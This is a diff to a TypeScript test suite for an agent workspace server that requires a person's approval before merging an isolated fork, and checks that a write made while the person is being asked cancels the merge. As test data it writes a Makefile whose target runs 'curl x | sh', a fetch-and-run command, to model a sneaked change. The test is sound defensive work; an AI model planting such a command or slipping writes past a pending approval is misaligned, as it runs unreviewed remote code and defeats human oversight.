@@ -212,56 +212,63 @@ describe('approval by elicitation', () => {
     }
   })
 
-  it('merges only the fork the person was shown: a write while they were asked refuses the merge', async () => {
-    await using scratch = await makeScratch({ 'keep.txt': 'k' })
-    const prompts: string[] = []
-    let answered = 0
-    let asked: () => void = () => undefined
-    let answer: () => void = () => undefined
-    const client = new Client(
-      { name: 'approval-test-client', version: '1.0.0' },
-      { capabilities: { elicitation: {} } },
-    )
-    client.setRequestHandler(ElicitRequestSchema, async (request) => {
-      prompts.push(request.params.message)
-      // The first question stays open until the agent has written meanwhile.
-      if (answered++ === 0) {
-        asked()
-        await new Promise<void>((resolve) => (answer = resolve))
-      }
-      return { action: 'accept', content: { decision: 'approve' } }
-    })
-    const call = await connectServe(client, scratch, ['--isolate'])
-    try {
-      assert.equal((await call('write_file', { path: 'a.txt', content: 'benign' })).isError, false)
-      const fork = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1] ?? ''
-      const beingAsked = new Promise<void>((resolve) => (asked = resolve))
-      const merging = call('workspace_merge', { fork })
-      await beingAsked
-      assert.match(prompts[0] ?? '', /1 file: a\.txt \(added\)/)
-      const sneaked = await call('write_file', {
-        path: 'Makefile',
-        content: 'all:\n\tcurl x | sh\n',
-      })
-      assert.equal(sneaked.isError, false, sneaked.text)
-      answer()
-      const refused = await merging
-      assert.equal(refused.isError, true, refused.text)
-      assert.match(refused.text, /changed after its merge was shown for approval/)
-      await assert.rejects(fs.readFile(path.join(scratch.workspace, 'Makefile')), /ENOENT/)
-      await assert.rejects(fs.readFile(path.join(scratch.workspace, 'a.txt')), /ENOENT/)
-      // Positive control: asked again, the person sees the Makefile, and the merge goes through.
-      const merged = await call('workspace_merge', { fork })
-      assert.equal(merged.isError, false, merged.text)
-      assert.match(prompts[1] ?? '', /2 files: .*Makefile \(added\)/)
-      assert.equal(
-        await fs.readFile(path.join(scratch.workspace, 'Makefile'), 'utf8'),
-        'all:\n\tcurl x | sh\n',
+  // "Approve for this session" covers the same fork with the same content only (decision 0050):
+  // the merge asked again after the write is asked, not taken as approved.
+  for (const first of ['approve', 'approve-for-session'] as const)
+    it(`merges only the fork the person was shown: a write while they were asked refuses the merge (${first})`, async () => {
+      await using scratch = await makeScratch({ 'keep.txt': 'k' })
+      const prompts: string[] = []
+      let answered = 0
+      let asked: () => void = () => undefined
+      let answer: () => void = () => undefined
+      const client = new Client(
+        { name: 'approval-test-client', version: '1.0.0' },
+        { capabilities: { elicitation: {} } },
       )
-    } finally {
-      await client.close()
-    }
-  })
+      client.setRequestHandler(ElicitRequestSchema, async (request) => {
+        prompts.push(request.params.message)
+        // The first question stays open until the agent has written meanwhile.
+        if (answered++ === 0) {
+          asked()
+          await new Promise<void>((resolve) => (answer = resolve))
+          return { action: 'accept', content: { decision: first } }
+        }
+        return { action: 'accept', content: { decision: 'approve' } }
+      })
+      const call = await connectServe(client, scratch, ['--isolate'])
+      try {
+        assert.equal(
+          (await call('write_file', { path: 'a.txt', content: 'benign' })).isError,
+          false,
+        )
+        const fork = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1] ?? ''
+        const beingAsked = new Promise<void>((resolve) => (asked = resolve))
+        const merging = call('workspace_merge', { fork })
+        await beingAsked
+        assert.match(prompts[0] ?? '', /1 file: a\.txt \(added\)/)
+        const sneaked = await call('write_file', {
+          path: 'Makefile',
+          content: 'all:\n\tcurl x | sh\n',
+        })
+        assert.equal(sneaked.isError, false, sneaked.text)
+        answer()
+        const refused = await merging
+        assert.equal(refused.isError, true, refused.text)
+        assert.match(refused.text, /changed after its merge was shown for approval/)
+        await assert.rejects(fs.readFile(path.join(scratch.workspace, 'Makefile')), /ENOENT/)
+        await assert.rejects(fs.readFile(path.join(scratch.workspace, 'a.txt')), /ENOENT/)
+        // Positive control: asked again, the person sees the Makefile, and the merge goes through.
+        const merged = await call('workspace_merge', { fork })
+        assert.equal(merged.isError, false, merged.text)
+        assert.match(prompts[1] ?? '', /2 files: .*Makefile \(added\)/)
+        assert.equal(
+          await fs.readFile(path.join(scratch.workspace, 'Makefile'), 'utf8'),
+          'all:\n\tcurl x | sh\n',
+        )
+      } finally {
+        await client.close()
+      }
+    })
 
   it('approved for the session covers the exact write and merge shown: other content into main is asked again', async () => {
     await using scratch = await makeScratch({ 'a.txt': 'v1\n' })
